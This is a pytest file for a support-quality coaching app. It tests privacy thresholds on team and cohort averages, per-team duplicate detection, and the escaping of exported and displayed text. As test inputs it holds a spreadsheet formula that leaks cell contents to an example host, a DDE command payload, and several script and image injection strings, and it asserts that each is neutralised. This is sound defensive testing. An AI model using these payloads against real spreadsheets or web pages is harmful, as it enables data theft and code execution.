"""Privacy of aggregates and answers, and output encoding: no team or cohort mean reveals one
person outside the caller's teams or a group too small to hide them; "already stored" never
tells of another team's copy; exported CSV cells never start a formula; chat text, names and
notes are shown as text (never a link, an image or HTML) in the app and the HTML report."""

from __future__ import annotations

import csv
import html
import io
import json
import re
from datetime import date, datetime, timedelta, timezone

from markdown_it import MarkdownIt
from sqlalchemy import select, text

from qa_coach.domain.statuses import IngestStatus
from qa_coach.ingest import import_conversations
from qa_coach.services import analytics, coaching, directory, disputes, export, ingest, reviews
from qa_coach.services.coaching_report import coaching_report_html
from qa_coach.storage import codec
from qa_coach.storage.migrate import downgrade
from qa_coach.storage.models import IngestedFile, InteractionRow
from tests.db_fixtures import (  # noqa: F401  (fixtures)
    SIGNALS,
    build_world,
    db,
    empty_db,
    migrated_db,
    pg_shared,
    world,
    write_chat,
    write_tickets,
    zendesk_ticket,
)
from tests.ui_fixtures import page_app, seeded  # noqa: F401  (fixture)

START = datetime(2026, 9, 14, 9, tzinfo=timezone.utc)  # a Monday; Alice was hired 2026-09-07, Arun 2026-09-14
NOW = START + timedelta(weeks=3)
HIRED = date(2026, 9, 7)


def _iso(d: datetime) -> str:
    return d.isoformat().replace("+00:00", "Z")


def _weekly_chats(w, tmp_path, name: str, polite_by_email: dict[str, bool], weeks: int = 3) -> None:
    """One dated chat a week for each representative (polite: 100 points, else 0)."""
    tickets = [
        zendesk_ticket(f"{name}-{k}-{week}", _iso(START + timedelta(weeks=week, hours=k)), email,
                       f"{name}-{k}-{week}@cust.example", polite=polite)
        for week in range(weeks) for k, (email, polite) in enumerate(polite_by_email.items())
    ]
    out = ingest.ingest_file(w.sessions, w.admin, write_tickets(tmp_path, f"{name}.json", tickets),
                             rubric_version_id=w.rubric_v1, signals=SIGNALS)
    assert out.status == IngestStatus.STORED and len(out.interaction_ids) == len(tickets), out


def _new_hire(w, name: str, team: int) -> str:
    email = f"{name.lower()}@example.com"
    directory.create_representative(w.sessions, w.admin, name=name, team_id=team, email=email, hire_date=HIRED)
    return email


# Aggregates --------------------------------------------------------------------------------


def test_a_representative_never_sees_a_mean_of_another_teams_new_hires(world, tmp_path):
    """Three new hires of team B (hired with Alice) and Arun of team A: Alice's cohort holds
    Arun only, one person, so no cohort mean; an admin, who sees every team, gets all four."""
    w = world
    others = {_new_hire(w, f"B{i}", w.team_b): True for i in range(3)}
    _weekly_chats(w, tmp_path, "cohort", {"alice@example.com": False, "arun@example.com": True, **others})

    for viewer in (w.user_a1, w.coach_a):
        p = analytics.rep_progress(w.sessions, viewer, w.rep_a1, now=NOW)
        assert p.cohort and max(c.cohort_reps for c in p.cohort) == 1  # Arun: team B is not theirs to see
        assert all(c.cohort_mean is None for c in p.cohort)  # one other new hire: his mean is not shown
        assert p.team_weeks == ()  # team A is Alice and Arun: the team mean would be Arun's
        assert [round(x.mean) for x in p.weeks] == [0, 0, 0]  # their own scores stay visible

    p = analytics.rep_progress(w.sessions, w.admin, w.rep_a1, now=NOW)
    shown = {c.week_since_hire: (c.cohort_reps, c.cohort_mean) for c in p.cohort if c.rep_mean is not None}
    assert shown == {1: (4, 100.0), 2: (4, 100.0), 3: (3, 100.0)}  # Arun's week 3 is after NOW


def test_team_and_cohort_means_need_three_other_people(world, tmp_path):
    w = world
    amy = _new_hire(w, "Amy", w.team_a)
    _weekly_chats(w, tmp_path, "three", {"alice@example.com": False, "arun@example.com": True, amy: True})
    p = analytics.rep_progress(w.sessions, w.user_a1, w.rep_a1, now=NOW)
    assert p.team_weeks == ()  # Arun and Amy beside Alice: two others, not shown
    assert p.cohort and all(c.cohort_mean is None for c in p.cohort)
    assert analytics.MIN_GROUP_SIZE == 3

    abe = _new_hire(w, "Abe", w.team_a)
    _weekly_chats(w, tmp_path, "fourth", {abe: True})
    p = analytics.rep_progress(w.sessions, w.user_a1, w.rep_a1, now=NOW)
    # Alice 0 and three others 100 each week: the team's mean is shown, Alice included
    assert [(x.week, x.mean, x.n) for x in p.team_weeks] == [
        ((START + timedelta(weeks=k)).date(), 75.0, 4) for k in range(3)]
    # Arun was hired a week after the others: in Alice's 3rd week after hire he has no score yet
    cohort = {c.week_since_hire: (c.cohort_reps, c.cohort_mean) for c in p.cohort}
    assert cohort == {0: (1, None), 1: (3, 100.0), 2: (3, 100.0), 3: (2, None)}


# Idempotency answers ---------------------------------------------------------------------


def _files_by_team(w) -> dict[int | None, int]:
    with w.sessions() as s:
        rows = s.execute(select(IngestedFile.team_id, IngestedFile.id)).all()
    out: dict[int | None, int] = {}
    for team, _ in rows:
        out[team] = out.get(team, 0) + 1
    return out


def _same_tickets_other_bytes(path, folder):
    """The same conversations in another file (indented JSON)."""
    folder.mkdir()
    copy = folder / "renamed.json"
    copy.write_text(json.dumps(json.loads(path.read_text(encoding="utf-8")), indent=2), encoding="utf-8")
    return copy


def test_a_copy_of_another_teams_file_is_stored_without_saying_so(world, tmp_path):
    w = world
    f = write_tickets(tmp_path, "chat.json", [zendesk_ticket("t-1", "2026-09-14T09:00:00Z", "sam@agents.example",
                                                             "c@x.example", polite=True)])

    def run(user, rep, path=f):
        return ingest.ingest_file(w.sessions, user, path, rubric_version_id=w.rubric_v1, representative=rep,
                                  signals=SIGNALS)

    first = run(w.reviewer_a, "alice@example.com")
    assert first.status == IngestStatus.STORED and len(first.interaction_ids) == 1
    other = run(w.reviewer_b, "bea@example.com")  # byte-identical: team B is told nothing of team A's copy
    assert other.status == IngestStatus.STORED and len(other.interaction_ids) == 1 and other.duplicates == 0
    # within a team nothing is stored twice: the same file, or the same conversation in another file
    assert run(w.reviewer_b, "bea@example.com").status == IngestStatus.ALREADY_STORED
    assert run(w.reviewer_a, "alice@example.com").status == IngestStatus.ALREADY_STORED
    again = run(w.reviewer_b, "bea@example.com", _same_tickets_other_bytes(f, tmp_path / "copy"))
    assert again.status == IngestStatus.STORED and again.interaction_ids == () and again.duplicates == 1
    assert _files_by_team(w) == {w.team_a: 1, w.team_b: 2}
    with w.sessions() as s:
        assert s.scalar(select(InteractionRow.id).where(InteractionRow.representative_id == w.rep_b1)) == \
            other.interaction_ids[0]


def test_a_file_for_two_teams_is_recorded_for_each(world, tmp_path):
    w = world
    f = write_tickets(tmp_path, "both.json", [
        zendesk_ticket("t-a", "2026-09-14T09:00:00Z", "alice@example.com", "x@c.example", polite=True),
        zendesk_ticket("t-b", "2026-09-14T10:00:00Z", "bea@example.com", "y@c.example", polite=True),
    ])
    out = ingest.ingest_file(w.sessions, w.admin, f, rubric_version_id=w.rubric_v1, signals=SIGNALS)
    assert out.status == IngestStatus.STORED and len(out.interaction_ids) == 2
    assert _files_by_team(w) == {w.team_a: 1, w.team_b: 1}
    for user in (w.admin, w.reviewer_a, w.reviewer_b):
        again = ingest.ingest_file(w.sessions, user, f, rubric_version_id=w.rubric_v1, signals=SIGNALS)
        assert again.status == IngestStatus.ALREADY_STORED


def test_migration_scopes_files_and_conversations_stored_before_it_to_their_team(migrated_db, tmp_path):
    """A file stored before migration 0005 (unscoped hash, no team) is, after it, still
    'already stored' for its own team, and still new to another team."""
    w = build_world(migrated_db)
    f = write_tickets(tmp_path, "old.json", [zendesk_ticket("t-1", "2026-09-14T09:00:00Z", "sam@agents.example",
                                                            "c@x.example", polite=True)])
    assert ingest.ingest_file(w.sessions, w.reviewer_a, f, rubric_version_id=w.rubric_v1,
                              representative="alice@example.com", signals=SIGNALS).status == IngestStatus.STORED
    legacy = codec.content_hash(import_conversations(f)[0])
    with migrated_db.engine.begin() as conn:  # as the code before 0005 stored it
        conn.execute(text("UPDATE interactions SET content_hash = :h"), {"h": legacy})
        conn.execute(text("UPDATE ingested_files SET team_id = NULL"))
    downgrade(migrated_db.engine, "0004")
    migrated_db.upgrade()
    with w.sessions() as s:
        assert s.scalar(select(InteractionRow.content_hash)) == codec.team_content_hash(w.team_a, legacy)
        assert s.scalar(select(IngestedFile.team_id)) == w.team_a
    again = ingest.ingest_file(w.sessions, w.reviewer_a, f, rubric_version_id=w.rubric_v1,
                               representative="alice@example.com", signals=SIGNALS)
    assert again.status == IngestStatus.ALREADY_STORED
    dup = ingest.ingest_file(w.sessions, w.reviewer_a, _same_tickets_other_bytes(f, tmp_path / "copy"),
                             rubric_version_id=w.rubric_v1,
                             representative="alice@example.com", signals=SIGNALS)
    assert dup.interaction_ids == () and dup.duplicates == 1
    other = ingest.ingest_file(w.sessions, w.reviewer_b, f, rubric_version_id=w.rubric_v1,
                               representative="bea@example.com", signals=SIGNALS)
    assert other.status == IngestStatus.STORED and len(other.interaction_ids) == 1


# CSV ---------------------------------------------------------------------------------------

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def test_exported_csv_cells_never_start_a_formula(world, tmp_path):
    w = world
    directory.create_representative(w.sessions, w.admin, name="-2+3 Eve", team_id=w.team_a, email="eve@example.com")
    ticket_id = '=HYPERLINK("https://e.example/?leak="&A1,"click")'
    f = write_tickets(tmp_path, "t.json", [zendesk_ticket(ticket_id, "2026-09-14T09:00:00Z", "eve@example.com",
                                                          "c@x.example", polite=False)])
    iid = ingest.ingest_file(w.sessions, w.admin, f, rubric_version_id=w.rubric_v1,
                             signals=SIGNALS).interaction_ids[0]
    reviews.save_review(w.sessions, w.reviewer_a, iid, {
        "greeting": reviews.CriterionReview("yes", "+1 said hi"),
        "closing": reviews.CriterionReview("no", "@SUM(1+1)*cmd|' /C calc'!A0"),
    }, expected_version=None)

    rows = list(csv.reader(io.StringIO(export.csv_text(export.export_records(w.sessions, w.admin)))))
    assert rows[0] == list(export.CSV_COLUMNS) and len(rows) == 4
    assert [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)] == []
    by_criterion = {r["criterion_id"]: r for r in csv.DictReader(io.StringIO(
        export.csv_text(export.export_records(w.sessions, w.admin))))}
    greeting = by_criterion["greeting"]
    assert greeting["external_id"] == "'" + ticket_id  # kept, behind the quote a spreadsheet shows as text
    assert greeting["representative"] == "'-2+3 Eve" and greeting["human_comment"] == "'+1 said hi"
    assert by_criterion["closing"]["human_comment"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert greeting["auto_score"] == "0.0" and greeting["max_points"] == "30.0"  # numbers stay numbers
    for start in FORMULA_STARTS:
        assert export.spreadsheet_text(f"{start}1") == f"'{start}1"
    assert export.spreadsheet_text(-2.5) == -2.5 and export.spreadsheet_text("a=b") == "a=b"


# The app: chat text as text ----------------------------------------------------------------

EVIL = ("![x](https://e.example/a.png) [verify](https://e.example/v) <img src=x onerror=alert(1)> "
        "**bold** https://e.example/bare www.e.example me@e.example :red[red] $x^2$")
_MD = MarkdownIt("commonmark").enable(["table", "strikethrough"])
# GitHub-flavoured autolink literals, as remark-gfm finds them in the text left after parsing
_GFM_AUTOLINK = re.compile(r"(https?://|www(?=\.))[-.\w]+|[-.\w+]+@[-\w]+(\.[-\w]+)+", re.IGNORECASE)


def _markdown_strings(at) -> list[str]:
    """Everything on the page that Streamlit renders as markdown: bodies and labels."""
    out = []
    for kind in ("markdown", "caption", "info", "warning", "error", "success", "title", "subheader", "header"):
        out += [str(e.value) for e in getattr(at, kind)]
    for kind in ("metric", "checkbox", "selectbox", "multiselect", "text_input", "text_area", "expander", "button"):
        out += [str(e.label) for e in getattr(at, kind)]
    return out


def _assert_shown_as_text(at) -> str:
    assert not at.exception, at.exception
    shown = []
    for source in _markdown_strings(at):
        rendered = _MD.render(source)
        assert "<a " not in rendered and "<img" not in rendered, (source, rendered)
        words = html.unescape(re.sub(r"<[^>]+>", "", rendered))
        assert not _GFM_AUTOLINK.search(words), (source, words)
        assert "<strong>bold" not in rendered, source
        shown.append(words.replace("\u2060", ""))  # the invisible joiners that stop autolinks
    return "\n".join(shown)


def test_chat_text_names_and_notes_are_shown_as_typed_never_as_links_or_images(seeded, tmp_path):
    w = seeded.world
    f = write_chat(tmp_path, "evil.txt", "Sam", "c@x.example", polite=True, topic=EVIL)
    iid = ingest.ingest_file(w.sessions, w.admin, f, rubric_version_id=w.rubric_v1,
                             representative="alice@example.com", signals=SIGNALS).interaction_ids[0]
    coaching.create_coaching_session(w.sessions, w.coach_a, w.rep_a1, focus_criteria=("greeting",),
                                     notes=f"Notes: {EVIL}", action_items=(coaching.NewActionItem(f"Item {EVIL}"),))
    disputes.raise_dispute(w.sessions, w.user_a1, iid, "closing", f"Reason {EVIL}")

    at = page_app(seeded, "interaction", "reviewer", {"id": str(iid)}).run()
    box = at.selectbox(key="evidence_criterion")
    box.select_index(next(i for i, o in enumerate(box.options) if o.startswith("Empathy"))).run()
    page = _assert_shown_as_text(at)
    assert "![x](https://e.example/a.png) [verify](https://e.example/v) <img src=x onerror=alert(1)>" in page
    assert f"Reason {EVIL}" in page
    for name, user in (("progress", "coach"), ("coaching", "coach"), ("mine", "alice")):
        page = _assert_shown_as_text(page_app(seeded, name, user).run())
        assert EVIL in page, name


# The HTML coaching report ------------------------------------------------------------------


def test_coaching_report_escapes_chat_text_names_and_notes(world, tmp_path):
    w = world
    script = "<script>alert(1)</script>"
    rep = directory.create_representative(w.sessions, w.admin, name=f"Zed {script}", team_id=w.team_a,
                                          email="zed@example.com")
    f = write_tickets(tmp_path, "t.json", [zendesk_ticket("<img src=x onerror=alert(1)>", "2026-09-14T09:00:00Z",
                                                          "zed@example.com", "c@x.example", polite=False)])
    assert ingest.ingest_file(w.sessions, w.admin, f, rubric_version_id=w.rubric_v1,
                              signals=SIGNALS).status == IngestStatus.STORED
    coaching.create_coaching_session(w.sessions, w.coach_a, rep.id, focus_criteria=("greeting",),
                                     notes=f"{script} {EVIL}", action_items=(coaching.NewActionItem("<b>do</b>"),))
    report = coaching_report_html(w.sessions, w.coach_a, rep.id, now=datetime(2026, 9, 20, tzinfo=timezone.utc))
    assert "<script" not in report and "<img" not in report and "<b>do" not in report
    assert "Zed &lt;script&gt;alert(1)&lt;/script&gt;" in report and "&lt;b&gt;do&lt;/b&gt;" in report
    assert "(&lt;img src=x onerror=alert(1)&gt;)" in report  # the ticket id of an example
    assert html.escape(analytics.TOO_FEW_PEOPLE) in report  # Zed's team is too small for a team mean
